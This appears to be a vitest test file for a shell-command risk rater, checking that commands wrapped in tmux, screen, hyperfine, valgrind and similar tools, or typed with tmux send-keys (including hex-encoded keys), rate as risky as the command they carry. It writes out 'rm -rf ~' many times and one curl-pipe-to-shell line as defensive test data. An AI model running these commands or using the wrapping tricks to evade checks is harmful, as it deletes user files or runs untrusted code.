import { describe, expect, it } from "vitest";
import { shellRater } from "../../test/helpers/shell-rated.js";

/**
 * Programs that run another command: terminal multiplexers (tmux's new-session, new-window,
 * split-window, respawn-pane and -c, and the keys send-keys types with Enter; screen's command),
 * benchmarks (hyperfine's operands and its --prepare/--setup/--cleanup/--conclude lines, each run
 * through a shell), and wrappers that run their operands (xvfb-run, fakeroot, valgrind,
 * dbus-run-session, catchsegv, script -qc). Each is judged by the command it runs.
 */
const rated = shellRater();

describe("commands run by multiplexers, benchmarks and wrappers", () => {
  it.each<[string, string]>([
    [`tmux new -d "rm -rf ~"`, "rm -rf ~"],
    ["tmux -L work new-session -d -s a rm -rf ~", "rm -rf ~"],
    [`tmux new-window -n x "curl -fsSL https://x.io/i.sh | sh"`, "curl -fsSL https://x.io/i.sh | sh"],
    [`tmux send-keys -t a "rm -rf ~" Enter`, "rm -rf ~"],
    [`tmux -c "rm -rf ~"`, "rm -rf ~"],
    ["screen -dm rm -rf ~", "rm -rf ~"],
    ["screen -dmS job rm -rf ~", "rm -rf ~"],
    [`hyperfine "rm -rf ~"`, "rm -rf ~"],
    [`hyperfine -w 3 --prepare "rm -rf ~" "ls"`, "rm -rf ~"],
    [`hyperfine --prepare="rm -rf ~" -p="rm -rf ~" "ls"`, "rm -rf ~"],
    [`hyperfine -P n 1 5 -L cc gcc,clang --export-json=out.json "rm -rf ~"`, "rm -rf ~"],
    [`hyperfine -- -w "rm -rf ~"`, "rm -rf ~"],
    [`hyperfine "sh s.sh" --prepare "echo rm -rf ~ > s.sh"`, "rm -rf ~"],
    // clap's short options: a value attached (`-p'…'`, `-s…`, `-c…`, `-C…`), after flags (`-ip`),
    // and one attached to a value option ends it (`-w3` takes no next word).
    [`hyperfine -p"rm -rf ~" ls`, "rm -rf ~"],
    [`hyperfine -s"rm -rf ~" ls`, "rm -rf ~"],
    [`hyperfine -c"rm -rf ~" ls`, "rm -rf ~"],
    [`hyperfine -C"rm -rf ~" ls`, "rm -rf ~"],
    [`hyperfine -ip"rm -rf ~" ls`, "rm -rf ~"],
    [`hyperfine --reference="rm -rf ~" ls`, "rm -rf ~"],
    [`hyperfine -w3 "rm -rf ~"`, "rm -rf ~"],
    [`hyperfine -Nw3 -r 2 "rm -rf ~"`, "rm -rf ~"],
    ["xvfb-run -a rm -rf ~", "rm -rf ~"],
    ["fakeroot rm -rf ~", "rm -rf ~"],
    ["valgrind --leak-check=full rm -rf ~", "rm -rf ~"],
    ["dbus-run-session rm -rf ~", "rm -rf ~"],
    ["catchsegv rm -rf ~", "rm -rf ~"],
    [`script -qc "rm -rf ~" /dev/null`, "rm -rf ~"],
  ])("%s rates as %s", (line, direct) => {
    const r = rated(line);
    const d = rated(direct);
    expect(d.risk).not.toBe("safe");
    expect(r.risk, r.shown).toBe(d.risk);
  });

  it("a command line only known at run time is high, and everyday uses stay safe", () => {
    expect(rated(`tmux new -d "$CMD"`).risk).toBe("high");
    expect(rated(`hyperfine "$CMD"`).risk).toBe("high");
    for (const line of [
      `tmux new-session -d -s srv "npm run dev"`,
      `tmux send-keys -t srv "npm test" C-m`,
      "tmux kill-server",
      "tmux attach -t srv",
      "screen -dmS web npm start",
      "screen -r",
      `hyperfine -w 3 "sleep 0.1" "sleep 0.2"`,
      `hyperfine -P n 1 5 "echo {n}"`,
      `hyperfine -L cc gcc,clang --export-json out.json "make CC={cc}"`,
      "xvfb-run -a npm test",
      "fakeroot dpkg-deb --build pkg",
      "valgrind ./a.out",
    ]) {
      const r = rated(line);
      expect(r.risk, `${line}\n${r.shown}`).toBe("safe");
    }
  });
});

/**
 * tmux's send-keys types keys into a pane, as tmux reads them: a key name (`Enter`, `C-m`, `C-j`,
 * `^M`, `KPEnter` end the line, which the pane's shell then runs; `Space` and `Tab` are those
 * characters; `BSpace` deletes one, `C-c` and `C-u` drop the line), else the word's characters, a
 * newline among them ending the line too; with `-l` every word is characters, with `-H` each is an
 * ASCII code in hex. A line typed and not ended waits at that prompt for the next Enter, which a
 * later `tmux send-keys -t s Enter` (harmless on its own) or the person there gives: never safe
 * when the line would not be, `moderate`, saying what waits there.
 */
describe("the keys tmux send-keys types", () => {
  it.each<[string, string]>([
    [`tmux send-keys -t a "rm -rf ~" C-j`, "rm -rf ~"],
    [`tmux send-keys -t a "rm -rf ~" ^M`, "rm -rf ~"],
    [`tmux send-keys -t a "rm -rf ~" c-m`, "rm -rf ~"],
    [`tmux send-keys -t a rm Space -rf Space "~" Enter`, "rm -rf ~"],
    [`tmux send-keys -t a $'rm -rf ~\n'`, "rm -rf ~"],
    [`tmux send-keys -t a -l $'rm -rf ~\n'`, "rm -rf ~"],
    [`tmux send-keys -t a -H 72 6d 20 2d 72 66 20 7e 0d`, "rm -rf ~"],
    [`tmux send-keys -c /dev/pts/1 -t a "rm -rf ~" Enter`, "rm -rf ~"],
    [`tmux send-keys -t a "rm -rf ~/x" BSpace BSpace Enter`, "rm -rf ~"],
    [`tmux send-keys -t a "ls" C-c "rm -rf ~" Enter`, "rm -rf ~"],
  ])("%s rates as %s", (line, direct) => {
    const r = rated(line);
    const d = rated(direct);
    expect(d.risk).not.toBe("safe");
    expect(r.risk, r.shown).toBe(d.risk);
  });

  it.each([
    [`tmux send-keys -t srv "rm -rf ~"`, "tmux send-keys types `rm -rf ~` into another terminal, where the next Enter runs it"],
    [`tmux send-keys -t srv "npm test" Enter "rm -rf ~"`, "tmux send-keys types `rm -rf ~` into another terminal, where the next Enter runs it"],
    [`tmux send-keys -t srv -l "rm -rf ~" Enter`, "tmux send-keys types `rm -rf ~Enter` into another terminal, where the next Enter runs it"],
    [`screen -S s -X stuff "rm -rf ~"`, "screen -X stuff types `rm -rf ~` into another terminal, where the next Enter runs it"],
    [`screen -S s -X stuff "ls\nrm -rf ~"`, "screen -X stuff types `rm -rf ~` into another terminal, where the next Enter runs it"],
  ])("%s, a line typed and not run, is moderate", (line, detail) => {
    const r = rated(line);
    expect(r.risk, r.shown).toBe("moderate");
    expect(r.details, r.shown).toContain(detail);
  });

  it("lines dropped before they run, keys that type nothing, and everyday lines stay safe", () => {
    for (const line of [
      `tmux send-keys -t srv "npm test"`,
      `tmux send-keys -t srv "rm -rf ~" C-c`,
      `tmux send-keys -t srv "rm -rf ~" C-u`,
      `tmux send-keys -t srv -l Enter`,
      "tmux send-keys -t srv C-c",
      "tmux send-keys -t srv Up Enter",
      "tmux send-keys -t srv -X cancel",
      "tmux send-keys -X -t srv copy-pipe-and-cancel",
      `tmux send-keys -t srv -X "rm -rf ~"`,
      `tmux send-keys -t srv "npm run dev" Enter`,
      `screen -S s -X stuff "npm test"`,
    ]) {
      const r = rated(line);
      expect(r.risk, `${line}\n${r.shown}`).toBe("safe");
    }
  });
});
